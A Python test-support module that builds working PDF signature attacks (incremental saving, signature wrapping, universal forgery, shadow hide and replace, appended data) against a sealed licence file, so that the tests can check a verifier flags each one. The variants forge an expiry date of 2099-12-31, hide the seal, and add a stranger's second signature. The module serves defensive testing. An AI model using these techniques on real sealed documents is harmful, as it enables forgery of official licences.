"""Attacks on a sealed licence PDF, built in code from a freshly issued file.

The classes are those of the published PDF signature attacks (Mladenov et al., "1 Trillion
Dollar Refund", 2019; Mainka et al., "Shadow Attacks", 2021): incremental saving (ISA),
signature wrapping (SWA), universal signature forgery (USF) and shadow hide / replace, plus the
three found by trying the verifier (an empty signature field covering text, a metadata rewrite,
bytes appended after %%EOF). Each variant says whether it changes what a page shows, so the
tests can check with pdftoppm that the attack was really built.

The incremental writer here leaves Info and XMP alone (as the sealer does): otherwise every
variant would also rewrite the metadata, and a verifier that only noticed that would pass.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

__all__ = ["ATTACKS", "Attack", "MetaKeepingWriter", "byte_range", "cover_stream"]

_WHITE_BOX_TEXT = b"1 1 1 rg 90 360 420 120 re f 0 0 0 rg BT /Helv 28 Tf 110 405 Td (2099-12-31) Tj ET"
_HELVETICA = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}


class MetaKeepingWriter(IncrementalPdfFileWriter):
    """An incremental writer that does not touch the Info dictionary or the XMP packet."""

    def _update_meta(self) -> None:
        return None


def _writer(pdf: bytes) -> MetaKeepingWriter:
    return MetaKeepingWriter(io.BytesIO(pdf), strict=False)


def _bytes(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject({generic.NameObject(k): generic.NameObject(v) for k, v in _HELVETICA.items()})


def cover_stream(writer: IncrementalPdfFileWriter, *, bbox: bool = False) -> generic.IndirectObject:
    """A white box with a forged expiry date over the page's text (a form XObject if ``bbox``)."""
    resources = generic.DictionaryObject(
        {generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/Helv"): writer.add_object(_helvetica())})}
    )
    stream = generic.StreamObject(stream_data=_WHITE_BOX_TEXT)
    if bbox:
        stream[generic.NameObject("/Type")] = generic.NameObject("/XObject")
        stream[generic.NameObject("/Subtype")] = generic.NameObject("/Form")
        stream[generic.NameObject("/BBox")] = generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)])
        stream[generic.NameObject("/Resources")] = resources
    return writer.add_object(stream)


def byte_range(pdf: bytes) -> tuple[int, int, int, int, int]:
    """(offset of the /ByteRange array, its four values) of the file's only signature."""
    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert match is not None
    a, b, c, d = (int(x) for x in match.groups())
    return match.start(), a, b, c, d


def _overwrite(pdf: bytes, start: int, old: bytes, new: bytes) -> bytes:
    """Replace ``old`` at ``start`` with ``new`` padded by spaces: every offset stays valid."""
    assert pdf[start : start + len(old)] == old and len(new) <= len(old)
    return pdf[:start] + new + b" " * (len(old) - len(new)) + pdf[start + len(old) :]


def _byte_range_text(pdf: bytes) -> tuple[int, bytes]:
    match = re.search(rb"/ByteRange\s*\[[^\]]*\] *", pdf)  # with the padding after it
    assert match is not None
    return match.start(), match.group(0)


# -- incremental saving ------------------------------------------------------------------------
def isa_page_content(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    font = writer.add_object(_helvetica())
    resources = generic.DictionaryObject(
        {generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/Helv"): font})}
    )
    writer.add_stream_to_page(0, writer.add_object(generic.StreamObject(stream_data=_WHITE_BOX_TEXT)), resources=resources)
    return _bytes(writer)


def isa_override_content(pdf: bytes) -> bytes:
    """The page's own content stream object redefined: the page object is untouched."""
    writer = _writer(pdf)
    page = writer.root["/Pages"]["/Kids"][0]
    ref = page.raw_get("/Contents").reference
    # Drawn in the page's existing font F1+0 would need its encoding; a filled box suffices.
    original = writer.get_object(ref).data
    writer.objects[(ref.generation, ref.idnum)] = generic.StreamObject(stream_data=original + b"\nq 1 1 1 rg 90 360 420 120 re f Q\n")
    return _bytes(writer)


def _widget(writer: IncrementalPdfFileWriter, fields: dict[str, generic.PdfObject]) -> generic.IndirectObject:
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)]),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/P"): page_ref,
            generic.NameObject("/AP"): generic.DictionaryObject({generic.NameObject("/N"): cover_stream(writer, bbox=True)}),
            **{generic.NameObject(k): v for k, v in fields.items()},
        }
    )
    ref = writer.add_object(annot)
    page = page_ref.get_object()
    page["/Annots"].append(ref)
    writer.update_container(page["/Annots"])
    writer.mark_update(page_ref)
    return ref


def empty_signature_field_cover(pdf: bytes) -> bytes:
    """An unsigned signature field whose appearance is a white box with a new expiry date."""
    writer = _writer(pdf)
    ref = _widget(
        writer,
        {"/Subtype": generic.NameObject("/Widget"), "/FT": generic.NameObject("/Sig"), "/T": generic.TextStringObject("Seal2")},
    )
    form = writer.root["/AcroForm"]
    form["/Fields"].append(ref)
    writer.update_container(form["/Fields"])
    writer.update_root()
    return _bytes(writer)


def free_text_annotation(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    _widget(writer, {"/Subtype": generic.NameObject("/FreeText"), "/DA": generic.TextStringObject("/Helv 12 Tf 0 g")})
    return _bytes(writer)


def metadata_rewrite(pdf: bytes) -> bytes:
    """A new title in the Info dictionary and a new XMP packet: what the page shows is unchanged."""
    writer = _writer(pdf)
    info = writer.trailer["/Info"]
    info[generic.NameObject("/Title")] = generic.TextStringObject("食品经营许可证（已延期至 2099 年）")
    writer.update_container(info)
    xmp = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">'
        b"forged</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
        b'<?xpacket end="w"?>'
    )
    meta = generic.StreamObject(
        {generic.NameObject("/Type"): generic.NameObject("/Metadata"), generic.NameObject("/Subtype"): generic.NameObject("/XML")},
        stream_data=xmp,
    )
    writer.root[generic.NameObject("/Metadata")] = writer.add_object(meta)
    writer.update_root()
    return _bytes(writer)


def appended_bytes(pdf: bytes) -> bytes:
    return pdf + b"% appended after the seal\n" + b"Expiry: 2099-12-31\n" * 8


def appended_update_without_eof(pdf: bytes) -> bytes:
    """A complete page-changing update whose final %%EOF is left off: not a valid revision."""
    attacked = isa_page_content(pdf)
    assert attacked.rstrip().endswith(b"%%EOF")
    return attacked.rstrip()[: -len(b"%%EOF")]


# -- shadow-style: re-point or hide what the signed revision already holds ---------------------
def shadow_hide_seal(pdf: bytes) -> bytes:
    """The seal's own widget set Hidden: the visible seal disappears, no new object is written."""
    writer = _writer(pdf)
    widget = writer.root["/Pages"]["/Kids"][0]["/Annots"][0]
    widget[generic.NameObject("/F")] = generic.NumberObject(2)
    writer.update_container(widget)
    return _bytes(writer)


def shadow_replace_fonts(pdf: bytes) -> bytes:
    """The page's two fonts swapped in its font resources: the same glyph codes show other text."""
    writer = _writer(pdf)
    fonts = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"]
    names = sorted(fonts.keys())
    assert len(names) >= 2
    first, second = fonts.raw_get(names[0]), fonts.raw_get(names[1])
    fonts[names[0]], fonts[names[1]] = second, first
    writer.update_container(fonts)
    return _bytes(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """The page's /Contents re-pointed to a stream already in the signed revision (the seal's)."""
    writer = _writer(pdf)
    page = writer.root["/Pages"]["/Kids"][0]
    seal_appearance = page["/Annots"][0]["/AP"].raw_get("/N")
    page[generic.NameObject("/Contents")] = seal_appearance
    writer.update_container(page)
    return _bytes(writer)


def second_signature_over_changes(pdf: bytes) -> bytes:
    """ISA, then a signature by a stranger over the changed file (a new signed field)."""
    from certsvc.crypto import api as crypto
    from certsvc.domain.layout import SealBox

    now = datetime.now(UTC)
    key = crypto.SealKey.generate(crypto.KeyAlgorithm.ECDSA_P256)
    root = crypto.make_root_ca(
        key=key, common_name="Stranger", organization="Stranger", not_before=now - timedelta(hours=1),
        not_after=now + timedelta(days=1),
    )
    cert = crypto.make_seal_certificate(
        key=key, department_name="锡林郭勒盟市场监督管理局", credit_code="11152500011512829G", issuer_certificate_der=root,
        issuer_key=key, not_before=now - timedelta(hours=1), not_after=now + timedelta(days=1),
    )
    from PIL import Image

    image = io.BytesIO()
    Image.new("RGBA", (64, 64), (200, 0, 0, 255)).save(image, format="PNG")
    sealer = crypto.PdfSealer(key=crypto.LoadedKey(key, certificate_der=cert, chain_der=[root]), seal_image_png=image.getvalue())
    return sealer.seal(
        isa_page_content(pdf), box=SealBox(0, 100, 600, 220, 720), department_name="锡林郭勒盟市场监督管理局",
        signed_at=now, reason="second seal", field_name="Seal2",
    )


# -- universal signature forgery and wrapping: the signature itself is manipulated -------------
def usf_contents_zeroed(pdf: bytes) -> bytes:
    attacked = isa_page_content(pdf)
    _, _, gap_start, gap_end, _ = byte_range(attacked)
    return attacked[: gap_start + 1] + b"0" * (gap_end - gap_start - 2) + attacked[gap_end - 1 :]


def usf_contents_emptied(pdf: bytes) -> bytes:
    attacked = isa_page_content(pdf)
    _, _, gap_start, gap_end, _ = byte_range(attacked)
    return _overwrite(attacked, gap_start, attacked[gap_start:gap_end], b"<>")


def usf_byte_range_removed(pdf: bytes) -> bytes:
    attacked = isa_page_content(pdf)
    start, text = _byte_range_text(attacked)
    return _overwrite(attacked, start, text, b"")


def usf_byte_range_zero(pdf: bytes) -> bytes:
    attacked = isa_page_content(pdf)
    start, text = _byte_range_text(attacked)
    return _overwrite(attacked, start, text, b"/ByteRange [0 0 0 0]")


def swa_byte_range_covers_update(pdf: bytes) -> bytes:
    """Wrapping: /ByteRange edited (same width) so the signed ranges claim the appended update."""
    attacked = isa_page_content(pdf)
    start, text = _byte_range_text(attacked)
    _, a, b, c, _d = byte_range(attacked)
    return _overwrite(attacked, start, text, f"/ByteRange [{a} {b} {c} {len(attacked) - c}]".encode())


def swa_signed_part_moved(pdf: bytes) -> bytes:
    """Wrapping: the second signed range moved to the end of the file, the attacker's update put
    where it was (inside the signature's gap), and /ByteRange pointed at the moved bytes."""
    _, a, b, c, d = byte_range(pdf)
    update = isa_page_content(pdf)[len(pdf) :]
    moved = pdf[:c] + b"\n" + update + pdf[c : c + d]
    start, text = _byte_range_text(moved)
    return _overwrite(moved, start, text, f"/ByteRange [{a} {b} {c + 1 + len(update)} {d}]".encode())


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    build: Callable[[bytes], bytes]
    changes_page: bool  # the variant shows something else on page 1 (checked with pdftoppm)
    expected: frozenset[str]  # at least one of these reason codes must be reported


_MODIFIED = frozenset({"modified_after_signing"})
_BROKEN = frozenset({"signature_broken"})
ATTACKS: tuple[Attack, ...] = (
    Attack("isa_page_content", isa_page_content, True, _MODIFIED),
    Attack("isa_override_content", isa_override_content, True, _MODIFIED),
    Attack("empty_signature_field_cover", empty_signature_field_cover, True, _MODIFIED),
    Attack("free_text_annotation", free_text_annotation, True, _MODIFIED),
    Attack("second_signature_over_changes", second_signature_over_changes, True, _MODIFIED),
    Attack("metadata_rewrite", metadata_rewrite, False, _MODIFIED),
    Attack("appended_bytes", appended_bytes, False, frozenset({"appended_data"})),
    Attack("appended_update_without_eof", appended_update_without_eof, True, frozenset({"appended_data"})),
    Attack("shadow_hide_seal", shadow_hide_seal, True, _MODIFIED),
    Attack("shadow_replace_fonts", shadow_replace_fonts, True, _MODIFIED),
    Attack("shadow_hide_and_replace", shadow_hide_and_replace, True, _MODIFIED),
    Attack("usf_contents_zeroed", usf_contents_zeroed, True, _BROKEN),
    Attack("usf_contents_emptied", usf_contents_emptied, True, _BROKEN),
    Attack("usf_byte_range_removed", usf_byte_range_removed, True, _BROKEN),
    Attack("usf_byte_range_zero", usf_byte_range_zero, True, _BROKEN),
    Attack("swa_byte_range_covers_update", swa_byte_range_covers_update, True, _BROKEN),
    # The moved signed bytes leave no revision after the render that parses: no seal at all.
    Attack("swa_signed_part_moved", swa_signed_part_moved, True, frozenset({"appended_data"})),
)
